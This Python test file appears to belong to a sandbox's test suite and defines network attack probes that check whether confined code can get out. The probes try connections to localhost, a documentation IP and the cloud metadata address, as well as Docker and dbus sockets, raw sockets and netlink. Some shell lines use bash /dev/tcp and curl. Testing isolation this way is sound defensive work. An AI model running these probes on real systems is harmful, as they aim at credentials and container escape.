"""The network: to tell somebody, or to be told."""

# ruff: noqa: E501  (what an attack runs stands here as it is run)

from tests.hostile.attack import Attack, code, family, says

CONNECT = """
import socket
for kind, style, address in ADDRESSES:
    try:
        with socket.socket(kind, style) as out:
            out.settimeout(1)
            out.connect(address)
            out.send(b"told")
            print("TOLD", address)
    except OSError as error:
        print(type(error).__name__)
print("attacked")
"""


def _connects(name: str, wants: str, source: str) -> Attack:
    return Attack(name, wants, (code(source),), gained=says("TOLD"))


ATTACKS = family(
    "network",
    [
        _connects(
            "TCP to this machine",
            "a listener of the machine",
            CONNECT.replace("ADDRESSES", "[(2, 1, ('127.0.0.1', <TCP>)), (10, 1, ('::ffff:127.0.0.1', <TCP>))]"),
        ),
        _connects(
            "UDP to this machine",
            "a listener of the machine",
            CONNECT.replace("ADDRESSES", "[(2, 2, ('127.0.0.1', <UDP>)), (2, 2, ('255.255.255.255', <UDP>))]"),
        ),
        _connects(
            "TCP to the world",
            "somebody far away",
            CONNECT.replace(
                "ADDRESSES", "[(2, 1, ('192.0.2.1', 80)), (2, 1, ('169.254.169.254', 80)), (2, 2, ('192.0.2.1', 53))]"
            ),
        ),
        _connects(
            "names",
            "a name server to be told a name",
            "import socket\ntry: print('TOLD', socket.getaddrinfo('canary.example.com', 80))\nexcept OSError: print('attacked')",
        ),
        _connects(
            "abstract sockets of this machine",
            "a listener without a file",
            CONNECT.replace("ADDRESSES", "[(1, 1, chr(0) + '<ABSTRACT>')]"),
        ),
        _connects(
            "named sockets of this machine",
            "a listener with a file",
            CONNECT.replace(
                "ADDRESSES",
                "[(1, 1, '<OUTSIDE>/ear'), (1, 1, '/run/docker.sock'), (1, 1, '/var/run/docker.sock'), (1, 1, '/run/dbus/system_bus_socket'), (1, 2, '/dev/log')]",
            ),
        ),
        Attack(
            "raw sockets and packets",
            "to write packets, or to read those of others",
            (
                code("""
                    import socket
                    for kind, style, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 768), (17, 2, 768), (44, 3, 0), (38, 5, 0), (31, 3, 0), (29, 3, 1), (15, 3, 2)):
                        try: print("OPENED", socket.socket(kind, style, protocol))
                        except OSError: pass
                    print("attacked")
                """),
            ),
            gained=says("OPENED"),
        ),
        Attack(
            "sockets to the host of a virtual machine",
            "a way past the network's namespaces",
            (
                code("""
                    import socket
                    for style in (1, 2, 5):
                        try: print("OPENED", socket.socket(40, style))
                        except OSError: pass
                    print("attacked")
                """),
            ),
            gained=says("OPENED"),
        ),
        Attack(
            "netlink",
            "an interface of its own, or a look at those there are",
            (
                code("""
                    import socket, struct
                    print("SEES" if [name for _, name in socket.if_nameindex() if name not in ("lo", "sit0", "tunl0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6gre0")] else "attacked")
                    try:
                        link = socket.socket(16, 3, 0)
                        # RTM_NEWLINK: set the loopback interface up
                        link.send(struct.pack("IHHIIBBHiII", 32, 16, 5, 1, 0, 0, 0, 0, 1, 1, 1))
                        if struct.unpack_from("i", link.recv(1000), 16)[0] == 0: print("SEES")
                    except OSError: pass
                """),
            ),
            gained=says("SEES"),
        ),
        Attack(
            "programs that connect",
            "a program to do what Python may not",
            (
                code(
                    "!(echo told > /dev/tcp/127.0.0.1/<TCP>) 2>&1 | tail -1\n!bash -c 'echo told > /dev/tcp/127.0.0.1/<TCP>' && echo TO''LD\n!curl -m 1 http://127.0.0.1:<TCP>/ && echo TO''LD\nprint('attacked')"
                ),
            ),
            gained=says("TOLD"),
        ),
    ],
)
